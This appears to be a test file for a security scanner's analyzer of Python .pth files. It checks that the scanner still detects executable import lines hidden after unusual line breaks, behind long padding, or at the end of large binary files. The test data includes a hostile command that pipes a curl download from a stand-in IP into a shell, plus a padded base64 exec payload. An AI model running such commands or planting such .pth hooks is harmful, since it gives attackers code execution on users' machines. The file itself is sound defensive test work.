import { pthAnalyzer, scorePthLine } from '../../src/analyzers/pth.js';
import { runAnalyzer, scoreOf } from '../helpers/analyze.js';
import { b64, bytes, concat, prng, utf8 } from '../helpers/payloads.js';

/** .pth files written against the analyzer: line breaks site.py honours, code hidden after padding, big binaries. */

const run = (path: string, data: Uint8Array) => runAnalyzer(pthAnalyzer, path, data);
const EVIL = 'import os; os.system("curl -s http://203.0.113.9/x | sh")';

describe('pth analyzer against crafted files', () => {
  test('an import line after a line break that Python honours but that is not \\n is examined', async () => {
    // \r (universal newlines, every Python 3), and the str.splitlines() breaks of Python 3.13+
    for (const br of ['\r', '\r\n', '\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\u0085', '\u2028', '\u2029']) {
      const r = await run('evil.pth', utf8(`/some/path${br}${EVIL}${br}`));
      expect([JSON.stringify(br), scoreOf(r, 'code.pth-exec')]).toEqual([JSON.stringify(br), 9]);
      expect(r.findings[0].evidence?.line).toBe(2);
    }
  });

  test('code after 64 KiB of padding on an import line is scored like code at the start', async () => {
    const line = `import os;${' '.repeat(100_000)}exec(__import__('base64').b64decode('${b64(utf8('print(1)'))}'))\n`;
    const r = await run('pad.pth', utf8(line));
    expect(scoreOf(r, 'code.pth-exec')).toBe(9);
    expect(r.findings[0].evidence?.signals).toEqual(expect.arrayContaining(['exec/eval', 'decode']));
    // signals far apart on one long line still combine
    expect(scorePthLine(`import base64;${' '.repeat(200_000)}exec(x)`).score).toBe(9);
  });

  test('a large binary .pth (model weights) is examined to the end, not reported incomplete', async () => {
    // random weights hold a line break every ~40 bytes: 300,000 lines here, none of them executable
    const weights = concat(prng(3_000_000, 5), new Uint8Array(250_000).fill(0x0a), bytes(`${EVIL}\n`));
    const r = await run('models/net.pth', weights);
    expect(r.incomplete).toEqual([]);
    expect(scoreOf(r, 'code.pth-exec')).toBe(9);
  });
});
